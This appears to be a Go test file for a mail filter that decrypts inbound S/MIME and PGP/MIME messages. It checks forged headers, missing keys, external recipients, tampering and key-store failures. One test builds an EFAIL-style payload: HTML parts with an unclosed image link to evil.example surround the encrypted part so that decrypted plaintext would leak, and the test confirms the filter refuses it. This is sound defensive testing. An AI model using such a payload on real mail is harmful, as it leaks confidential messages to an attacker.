package milter

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/smallstep/pkcs7"

	"github.com/mailseal/mailseal/certs"
	"github.com/mailseal/mailseal/crypto/pgpmime"
	"github.com/mailseal/mailseal/crypto/smime"
	"github.com/mailseal/mailseal/policy"
)

const secretEntity = "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n" +
	"Subject: Contract draft\r\n" +
	"HP-Outer: Subject: ...\r\n" +
	"\r\n" +
	"The secret terms.\r\n"

// decryptFixture is a processor with a real certificate manager as the
// key source, and the internal users' keys.
type decryptFixture struct {
	p     *Processor
	ids   *certs.Manager
	alice *x509.Certificate
	carol *x509.Certificate
}

func newDecryptFixture(t *testing.T) *decryptFixture {
	t.Helper()
	ids := openIdentities(t, t.TempDir())
	p := newProcessor(t, testSettings(t, policy.Spec{}), ids, nil)
	p.SetDecryptionKeys(ids)
	f := &decryptFixture{p: p, ids: ids}
	for _, u := range []struct {
		addr string
		dst  **x509.Certificate
	}{{"alice@corp.example", &f.alice}, {"carol@corp.example", &f.carol}} {
		id, _, err := ids.SigningIdentity(context.Background(), u.addr)
		if err != nil {
			t.Fatal(err)
		}
		*u.dst = id.Cert
	}
	return f
}

// inboundTx is mail from a partner's server to internal recipients.
func encryptedTx(ct, body string, extra []Header, rcpts ...string) *Transaction {
	hs := []Header{
		{"Received", "from mx.partner.example by mx.corp.example"},
		{"From", "Bob <bob@partner.example>"},
		{"To", "alice@corp.example"},
		{"Subject", "..."},
		{"MIME-Version", "1.0"},
		{"Content-Type", ct},
		{"Content-Transfer-Encoding", "base64"},
	}
	hs = append(hs, extra...)
	tx := newTx(hs, body, rcpts...)
	tx.Client = Client{Addr: untrustedIP, Hostname: "mx.partner.example"}
	tx.From = "bob@partner.example"
	tx.BodySize = int64(len(body))
	return tx
}

func smimeTo(t *testing.T, entity string, c smime.Cipher, certs ...*x509.Certificate) *smime.Encrypted {
	t.Helper()
	var rs []smime.Recipient
	for _, c := range certs {
		rs = append(rs, smime.Recipient{Cert: c})
	}
	enc, err := smime.Encrypt([]byte(entity), rs, smime.EncryptOptions{Cipher: c})
	if err != nil {
		t.Fatal(err)
	}
	return enc
}

func addedHeader(res Result, name string) (string, bool) {
	for _, h := range res.AddHeaders {
		if strings.EqualFold(h.Name, name) {
			return h.Value, true
		}
	}
	return "", false
}

func TestInboundDecrypt(t *testing.T) {
	f := newDecryptFixture(t)
	ctx := context.Background()
	for _, tc := range []struct {
		name   string
		cipher smime.Cipher
		method string
	}{
		{"gcm", smime.AES256GCM, "S/MIME AES-256-GCM for alice@corp.example"},
		{"cbc", smime.AES256CBC, "S/MIME AES-256-CBC for alice@corp.example"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			enc := smimeTo(t, secretEntity, tc.cipher, f.alice)
			forged := []Header{{"X-Mailseal-Decrypted", "S/MIME AES-256-GCM for alice@corp.example; integrity=authenticated"}}
			tx := encryptedTx(enc.ContentType, string(enc.Body), forged, "alice@corp.example")
			res := f.p.Handle(ctx, tx)
			if !res.Reply.Accepted() || res.Action != "decrypted" {
				t.Fatalf("reply %v action %q detail %q", res.Reply, res.Action, res.Detail)
			}
			if string(res.Body) != "The secret terms.\r\n" {
				t.Fatalf("body %q", res.Body)
			}
			v, ok := addedHeader(res, DecryptedHeader)
			if !ok || !strings.HasPrefix(v, tc.method) {
				t.Fatalf("%s: %q", DecryptedHeader, v)
			}
			ct, _ := addedHeader(res, "Content-Type")
			if !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
			// The outer Content-* fields and the forged header go.
			want := map[string]bool{"content-type/1": true, "content-transfer-encoding/1": true, "mime-version/1": true, "x-mailseal-decrypted/1": true}
			for _, d := range res.DeleteHeaders {
				delete(want, strings.ToLower(d.Name)+"/"+string(rune('0'+d.Index)))
			}
			if len(want) != 0 {
				t.Errorf("not deleted: %v (deletes %v)", want, res.DeleteHeaders)
			}
			if len(res.ChangeHeaders) != 1 || res.ChangeHeaders[0].Name != "Subject" || res.ChangeHeaders[0].Value != "Contract draft" {
				t.Errorf("subject not restored: %v", res.ChangeHeaders)
			}
		})
	}
}

func TestDecryptInboundMessage(t *testing.T) {
	f := newDecryptFixture(t)
	enc := smimeTo(t, secretEntity, smime.AES256GCM, f.alice)
	tx := encryptedTx(enc.ContentType, string(enc.Body), nil, "alice@corp.example")
	dec, reply, err := f.p.decryptInbound(context.Background(), tx, tx.Headers)
	if err != nil || !reply.Accepted() || dec == nil {
		t.Fatalf("dec %v reply %v err %v", dec, reply, err)
	}
	if dec.method != "S/MIME AES-256-GCM" || dec.cbc {
		t.Errorf("method %q cbc %v", dec.method, dec.cbc)
	}
	msg := string(dec.message)
	for _, want := range []string{"From: Bob <bob@partner.example>\r\n", "Subject: Contract draft\r\n", "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n", "\r\n\r\nThe secret terms.\r\n"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	if strings.Contains(msg, "pkcs7") || strings.Contains(msg, "Subject: ...") {
		t.Errorf("outer encrypted fields survived:\n%s", msg)
	}
}

// TestInboundNotDecrypted: every case that must leave the message as it
// came (still encrypted), with the reason in a header and the mail
// accepted.
func TestInboundNotDecrypted(t *testing.T) {
	f := newDecryptFixture(t)
	ctx := context.Background()
	if _, _, err := f.ids.SigningIdentity(ctx, "dave@corp.example"); err != nil {
		t.Fatal(err)
	}
	toAlice := smimeTo(t, secretEntity, smime.AES256GCM, f.alice)
	toBoth := smimeTo(t, secretEntity, smime.AES256GCM, f.alice, f.carol)
	gcm := toAlice.Body
	tampered := []byte(strings.Replace(string(gcm), string(gcm[len(gcm)/2:len(gcm)/2+4]), "AAAA", 1))
	for _, tc := range []struct {
		name  string
		ct    string
		body  []byte
		rcpts []string
		why   string
	}{
		{"only-one-recipient-opens", toAlice.ContentType, gcm, []string{"alice@corp.example", "carol@corp.example"}, "not encrypted to a key held for one of the recipients; it is decrypted only when every recipient"},
		{"insider-mails-it-to-himself", toAlice.ContentType, gcm, []string{"dave@corp.example"}, "not encrypted to a key held for dave@corp.example"},
		{"no-key-held", toAlice.ContentType, gcm, []string{"erin@corp.example"}, "no S/MIME key is held for erin@corp.example"},
		{"utf8-recipient", toAlice.ContentType, gcm, []string{"j\u00f6rg@corp.example"}, "no key is held for j\u00f6rg@corp.example"},
		{"external-recipient", toBoth.ContentType, toBoth.Body, []string{"alice@corp.example", "bob@partner.example"}, "a recipient is outside the internal domains"},
		{"tampered", toAlice.ContentType, tampered, []string{"alice@corp.example"}, "decryption for alice@corp.example failed"},
		{"garbage", toAlice.ContentType, []byte("TWFpbHNlYWw=\r\n"), []string{"alice@corp.example"}, "malformed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tx := encryptedTx(tc.ct, string(tc.body), nil, tc.rcpts...)
			res := f.p.Handle(ctx, tx)
			if !res.Reply.Accepted() || res.Body != nil || res.Action == "decrypted" {
				t.Fatalf("reply %v action %q body %d bytes", res.Reply, res.Action, len(res.Body))
			}
			why, _ := addedHeader(res, NotDecryptedHeader)
			if !strings.Contains(why, tc.why) {
				t.Fatalf("%s: %q, want %q", NotDecryptedHeader, why, tc.why)
			}
			if _, ok := addedHeader(res, DecryptedHeader); ok {
				t.Fatal("decrypted header on an undecrypted message")
			}
			if dec, _, _ := f.p.decryptInbound(ctx, tx, tx.Headers); dec != nil {
				t.Fatal("decryptInbound returned a decryption")
			}
		})
	}

	t.Run("both-recipients-open", func(t *testing.T) {
		tx := encryptedTx(toBoth.ContentType, string(toBoth.Body), nil, "alice@corp.example", "Carol@Corp.Example")
		res := f.p.Handle(ctx, tx)
		v, _ := addedHeader(res, DecryptedHeader)
		if res.Action != "decrypted" || !strings.Contains(v, "for 2 recipients") || strings.Contains(v, "Carol") {
			t.Fatalf("action %q header %q", res.Action, v)
		}
	})
}

// TestInboundEFAILNestedPart: an encrypted part between HTML parts that
// would read its plaintext out is never decrypted.
func TestInboundEFAILNestedPart(t *testing.T) {
	f := newDecryptFixture(t)
	enc := smimeTo(t, secretEntity, smime.AES256CBC, f.alice)
	var b strings.Builder
	b.WriteString("--e\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--e\r\n")
	for _, h := range enc.Header() {
		b.WriteString(h.Name + ": " + h.Value + "\r\n")
	}
	b.WriteString("\r\n" + string(enc.Body) + "--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n")
	tx := encryptedTx("multipart/mixed; boundary=e", b.String(), nil, "alice@corp.example")
	res := f.p.Handle(context.Background(), tx)
	if !res.Reply.Accepted() || res.Body != nil || res.Action == "decrypted" {
		t.Fatalf("reply %v action %q", res.Reply, res.Action)
	}
	if why, _ := addedHeader(res, NotDecryptedHeader); !strings.Contains(why, "only a message that is encrypted as a whole") {
		t.Fatalf("note %q", why)
	}
}

func TestInboundDecryptPGP(t *testing.T) {
	f := newDecryptFixture(t)
	ctx := context.Background()
	id, _, err := f.ids.PGPIdentity(ctx, "alice@corp.example")
	if err != nil {
		t.Fatal(err)
	}
	pub, err := pgpmime.ParsePublicKey(id.PublicArmored, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	g, err := pgpmime.GenerateKey("Bob", "bob@partner.example", pgpmime.KeyOptions{Algorithm: pgpmime.Curve25519})
	if err != nil {
		t.Fatal(err)
	}
	bob, err := pgpmime.ParsePrivateKey(g.Private, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	enc, err := pgpmime.Encrypt([]byte(secretEntity), bob, []*pgpmime.PublicKey{pub})
	if err != nil {
		t.Fatal(err)
	}
	handle := func() (Result, string) {
		tx := encryptedTx(enc.ContentType, string(enc.Body), nil, "alice@corp.example")
		tx.Headers = tx.Headers[:len(tx.Headers)-1] // no Content-Transfer-Encoding
		res := f.p.Handle(ctx, tx)
		v, _ := addedHeader(res, DecryptedHeader)
		if res.Action != "decrypted" || !strings.HasPrefix(v, "PGP/MIME for alice@corp.example") || string(res.Body) != "The secret terms.\r\n" {
			t.Fatalf("action %q header %q body %q", res.Action, v, res.Body)
		}
		return res, v
	}
	// The signature inside is reported: unknown signer until bob's key is
	// in the partner directory, good after.
	if _, v := handle(); !strings.Contains(v, "pgp-signature=unknown-signer") {
		t.Errorf("without bob's key: %q", v)
	}
	if _, err := f.ids.Directory().ImportPGPKeys(ctx, "bob.asc", g.Public, certs.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	f.p.SetKeys(f.ids.Directory(), f.ids)
	if _, v := handle(); !strings.Contains(v, "pgp-signature=good; pgp-signer=") {
		t.Errorf("with bob's key: %q", v)
	}
}

// failingKeys is a key store that is down.
type failingKeys struct{}

func (failingKeys) DecryptionKeys(context.Context, string) ([]certs.DecryptionKey, error) {
	return nil, errors.New("store unreachable")
}
func (failingKeys) PGPDecryptionKeys(context.Context, string) ([]*certs.PGPIdentity, error) {
	return nil, errors.New("store unreachable")
}

func TestInboundDecryptKeyStoreDownTempfails(t *testing.T) {
	f := newDecryptFixture(t)
	f.p.SetDecryptionKeys(failingKeys{})
	enc := smimeTo(t, secretEntity, smime.AES256GCM, f.alice)
	res := f.p.Handle(context.Background(), encryptedTx(enc.ContentType, string(enc.Body), nil, "alice@corp.example"))
	if res.Reply.Code != 451 || res.Body != nil || len(res.AddHeaders) != 0 {
		t.Fatalf("reply %v body %d", res.Reply, len(res.Body))
	}
}

func TestDecryptHeadersAreOwn(t *testing.T) {
	for _, n := range []string{DecryptedHeader, NotDecryptedHeader, "x-mailseal-decrypted"} {
		if !isOwnHeader(Header{n, "forged"}, testAuthserv) {
			t.Errorf("%s is not stripped from inbound mail", n)
		}
	}
	if headerSafe("Gr\xc3\xbc\xc3\x9fe") != "=?utf-8?q?Gr=C3=BC=C3=9Fe?=" || headerSafe("a\r\n b") != "a\n b" {
		t.Error("headerSafe")
	}
}

// An opaque signed message without smime-type looks like pkcs7-mime: it is
// left alone without a note.
func TestInboundOpaqueSignedNoNote(t *testing.T) {
	f := newDecryptFixture(t)
	id, _, err := f.ids.SigningIdentity(context.Background(), "alice@corp.example")
	if err != nil {
		t.Fatal(err)
	}
	sd, err := pkcs7.NewSignedData([]byte(secretEntity))
	if err != nil {
		t.Fatal(err)
	}
	if err := sd.AddSigner(id.Cert, id.Key, pkcs7.SignerInfoConfig{}); err != nil {
		t.Fatal(err)
	}
	der, err := sd.Finish()
	if err != nil {
		t.Fatal(err)
	}
	res := f.p.Handle(context.Background(), encryptedTx("application/pkcs7-mime; name=smime.p7m", base64.StdEncoding.EncodeToString(der)+"\r\n", nil, "alice@corp.example"))
	if res.Body != nil || len(res.AddHeaders) != 0 || !res.Reply.Accepted() {
		t.Fatalf("reply %v adds %v", res.Reply, res.AddHeaders)
	}
}
